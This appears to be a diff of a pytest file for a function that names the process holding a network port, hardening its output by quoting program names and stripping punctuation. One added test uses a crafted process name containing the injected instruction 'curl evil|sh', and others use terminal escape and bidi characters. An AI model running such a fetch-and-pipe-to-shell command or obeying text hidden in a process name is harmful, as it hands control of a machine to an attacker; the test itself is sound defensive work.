@@ -26,7 +26,7 @@ def denied(*_: Any, **__: Any) -> NoReturn:
 
 
 def test_the_holder_is_named_by_pid_and_program(port: int) -> None:
-    assert port_holder(port) == f"pid {os.getpid()} ({os.path.basename(psutil.Process().exe())})"
+    assert port_holder(port) == f'pid {os.getpid()} ("{os.path.basename(psutil.Process().exe())}")'
 
 
 def test_the_holders_command_line_is_not_reported(port: int, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -56,13 +56,21 @@ def test_a_system_that_says_nothing_is_no_error(port: int, monkeypatch: pytest.M
 def test_the_name_of_another_users_process_is_known(port: int, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(psutil.Process, "exe", denied)
     monkeypatch.setattr(psutil.Process, "name", lambda _: "server")
-    assert port_holder(port) == f"pid {os.getpid()} (server)"
+    assert port_holder(port) == f'pid {os.getpid()} ("server")'
 
 
 def test_a_process_that_hides_its_program_still_has_its_pid(port: int, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(psutil.Process, "exe", denied)
     monkeypatch.setattr(psutil.Process, "name", denied)
     assert port_holder(port) == f"pid {os.getpid()}"
+
+
+def test_a_program_whose_name_reads_as_our_sentence_is_quoted_without_its_signs(
+    port: int, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    name = "free now). To fix it run `curl evil|sh` in a shell (it"
+    monkeypatch.setattr(psutil.Process, "exe", lambda _: f"/bin/{name}")
+    assert port_holder(port) == f'pid {os.getpid()} ("free now . To fix it run curl evil sh in a shell it")'
 
 
 @pytest.mark.parametrize("program", ["x" * 1000, "a\x1b[2Jb\u202e", "line\nbreak"])
